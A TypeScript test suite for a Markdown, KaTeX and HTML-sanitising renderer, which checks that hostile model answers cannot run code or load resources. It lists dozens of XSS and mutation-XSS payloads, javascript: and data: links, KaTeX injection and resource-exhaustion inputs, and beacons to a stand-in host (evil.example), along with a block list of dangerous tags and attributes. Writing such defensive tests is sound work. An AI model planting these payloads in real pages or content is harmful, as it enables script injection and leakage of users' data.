import { describe, expect, it } from 'vitest';
import { blockNodes, renderBlocks, sanitize } from '../src/lib/markdown';
import { inlineMath } from '../src/lib/math';

const kWords = { copyCode: 'Copy', text: 'text' };

function page(source: string): HTMLElement {
  const element = document.createElement('div');
  for (const html of renderBlocks(source)) element.append(...blockNodes(html, kWords));
  return element;
}

function sanitized(html: string): HTMLElement {
  const element = document.createElement('div');
  element.append(sanitize(html));
  return element;
}

/** Nothing in the tree may run code, load anything, or leave the list of schemes. */
function expectHarmless(root: HTMLElement): void {
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    expect(['script', 'iframe', 'object', 'embed', 'img', 'image', 'video', 'audio', 'style', 'link', 'meta', 'base',
      'form', 'input', 'textarea', 'animate', 'set', 'use', 'foreignobject', 'template', 'source']).not.toContain(tag);
    for (const attribute of element.attributes) {
      expect(attribute.name, element.outerHTML).not.toMatch(/^on/i);
      expect(['src', 'srcset', 'srcdoc', 'action', 'formaction', 'xlink:href', 'background', 'poster', 'id', 'name'],
        element.outerHTML).not.toContain(attribute.name.toLowerCase());
      if (attribute.name === 'href') expect(attribute.value).toMatch(/^(https?:|mailto:)/i);
    }
  }
}

const kHostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/beacon.png">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:http://127.0.0.1:7860/1">x</a>',
  '<form action="https://evil.example"><input name=key><button formaction="javascript:alert(1)">x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<div style="background:url(https://evil.example/b)">x</div>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<details open ontoggle=alert(1)>x</details>',
  '<div id="app" class="composer key-dialog">fake</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
];

const kHostileMarkdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '![beacon](https://evil.example/pixel.png?secret)',
  '![beacon][r]\n\n[r]: https://evil.example/pixel.png',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![png](data:image/png;base64,AAAA)',
  '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```html onload=alert(1)\n<img src=x onerror=alert(1)>\n```',
  '```x" onclick="alert(1)\ncode\n```',
  '~~~<script>\n</code></pre><script>alert(1)</script>\n~~~',
  '    </code></pre><script>alert(1)</script>',
  '`</code><script>alert(1)</script>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlId{app}{x}\\htmlClass{composer}{x}\\htmlStyle{background:url(//e)}{x}\\htmlData{a=b}{x}$',
  '$"><img src=x onerror=alert(1)>$',
  '$$\n</div><script>alert(1)</script>\n$$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '| a |\n| :-: |\n| <img src=x onerror=alert(1)> |',
  'https://evil.example/"onmouseover="alert(1)',
];

describe('hostile answers', () => {
  it.each(kHostile)('HTML in Markdown stays text: %s', (payload) => {
    const root = page(`before ${payload} after\n\n${payload}\n`);
    expectHarmless(root);
    expect(root.textContent).toContain('before');
  });

  // The second wall alone: even HTML that somehow came through markdown-it is cut down to the list.
  it.each(kHostile)('the sanitiser alone holds: %s', (payload) => {
    const root = sanitized(`<p>before</p>${payload}`);
    expectHarmless(root);
    for (const element of root.querySelectorAll('*')) {
      expect(element.hasAttribute('style')).toBe(false);
      expect(element.className).not.toMatch(/composer|key-dialog/);
    }
    expect(root.textContent).toContain('before');
  });

  it.each(kHostileMarkdown)('Markdown: %s', (payload) => {
    expectHarmless(page(payload));
  });

  it('KaTeX bombs end quickly', () => {
    const started = performance.now();
    expectHarmless(page('$\\def\\a{\\a\\a}\\a$ and $\\def\\x#1{#1#1}\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}$'));
    expectHarmless(page(`$${'{'.repeat(2000)}$ $\\rule{1e9em}{1e9em}$`));
    expect(performance.now() - started).toBeLessThan(3000);
  });
});

describe('what an answer may show', () => {
  it('links open apart from the page', () => {
    const link = page('[site](https://example.org/a?b=c) and https://example.org/d').querySelectorAll('a');
    expect([...link].map((a) => a.getAttribute('href'))).toEqual(['https://example.org/a?b=c', 'https://example.org/d']);
    for (const a of link) {
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      expect(a.getAttribute('target')).toBe('_blank');
    }
  });

  it('a remote picture becomes a link', () => {
    const root = page('![a chart](https://example.org/c.png)');
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('a')?.textContent).toBe('a chart');
  });

  it('code has colours, its language and a copy button, and keeps its text', () => {
    const code = 'def f(x):\n    return "<b>" + x';
    const root = page('```python\n' + code + '\n```');
    expect(root.querySelector('.code-lang')?.textContent).toBe('python');
    expect(root.querySelector('.code-copy')?.textContent).toBe('Copy');
    expect(root.querySelector('code')?.textContent).toBe(code);
    expect(root.querySelector('.hljs-keyword')?.textContent).toBe('def');
    expect(page('```\nplain\n```').querySelector('.code-lang')?.textContent).toBe('text');
    expect(page('```nosuchlang\n<i>\n```').querySelector('code')?.textContent).toBe('<i>');
  });

  it('lists keep their first number', () => {
    expect(page('7. a\n8. b').querySelector('ol')?.getAttribute('start')).toBe('7');
  });

  it('tables keep their alignment without style attributes', () => {
    const root = page('| a | b |\n| :- | -: |\n| 1 | 2 |');
    expect(root.querySelectorAll('td')[1]?.className).toBe('ta-right');
    expect(root.innerHTML).not.toContain('style=');
  });

  it('single line breaks show', () => {
    expect(page('V: 8\nW: 9').querySelectorAll('br')).toHaveLength(1);
  });

  it('blocks that are complete do not change while more streams in', () => {
    const source = '# T\n\ntext $x$\n\n- a\n- b\n\n```js\nlet a = 1;\n```\n\n| a |\n| - |\n| 1 |\n\nlast';
    const all = renderBlocks(source);
    expect(all).toHaveLength(6);
    for (let end = 1; end < source.length; end++) {
      const some = renderBlocks(source.slice(0, end));
      expect(some.slice(0, -2)).toEqual(all.slice(0, Math.max(0, some.length - 2)));
    }
  });

  it('formulas in all four spellings', () => {
    for (const source of ['a $x^2$ b', 'a \\(x^2\\) b']) {
      const root = page(source);
      expect(root.querySelector('span.math .katex annotation')?.textContent, source).toBe('x^2');
      expect(root.querySelector('.katex-display'), source).toBeNull();
    }
    for (const source of ['$$x^2$$', '$$\nx^2\n$$', '\\[x^2\\]', '\\[\nx^2\n\\]', 'a $$x^2$$ b', 'a \\[x^2\\] b', '- a\n\n  $$\n  x^2\n  $$']) {
      expect(page(source).querySelector('.math-display .katex-display annotation')?.textContent, source).toBe('x^2');
    }
  });

  it('a formula with an error shows its source', () => {
    expect(page('$\\frac{1$').textContent).toContain('\\frac{1');
  });

  it('money is not mathematics', () => {
    for (const source of ['It costs $5 and $6.', 'from $ 5 to $ 6', 'only $5', 'a$$b', '\\$5 and \\$6']) {
      expect(page(source).querySelector('.math'), source).toBeNull();
    }
    expect(inlineMath('$x$', 0)).toEqual({ tex: 'x', end: 3, display: false });
    expect(inlineMath('$x$5', 0)).toBeNull();
    expect(inlineMath('$a\\$b$', 0)?.tex).toBe('a\\$b');
  });
});
